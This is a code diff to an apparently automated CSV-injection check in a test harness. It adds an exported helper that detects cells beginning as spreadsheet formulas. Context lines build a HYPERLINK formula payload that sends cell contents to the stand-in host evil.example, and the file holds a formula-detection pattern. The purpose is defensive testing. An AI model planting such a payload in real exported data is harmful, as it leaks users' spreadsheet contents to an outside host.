@@ -16,6 +16,7 @@ const MARKER = 'SECCSV';
 
 /** What a spreadsheet runs: the rule written again here, independently of the service's. */
 const FORMULA = /^[\t\r\n]|^[\s\u3000]*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]/;
+export const startsAsFormula = (cell: string) => FORMULA.test(cell);
 
 export const formula = (prefix: string, marker: string) => `${prefix}HYPERLINK("http://evil.example/?"&A1,"${marker}")`;
 
@@ -58,7 +59,7 @@ export async function checkCsvInjection(system: RackevalSystem, callers: Caller[
       if (both && !found.length) violations.push({ what: `${name}: the decline rationale ${marker} is missing, so it could not be checked`, reproduce: curl('GET', url, 'finance') });
       for (const cell of found) {
         tried++;
-        if (FORMULA.test(cell)) violations.push({ what: `${name}: cell ${JSON.stringify(cell.slice(0, 40))} reaches a spreadsheet as a formula`, reproduce: curl('GET', url, 'finance') });
+        if (startsAsFormula(cell)) violations.push({ what: `${name}: cell ${JSON.stringify(cell.slice(0, 40))} reaches a spreadsheet as a formula`, reproduce: curl('GET', url, 'finance') });
       }
     }
   }
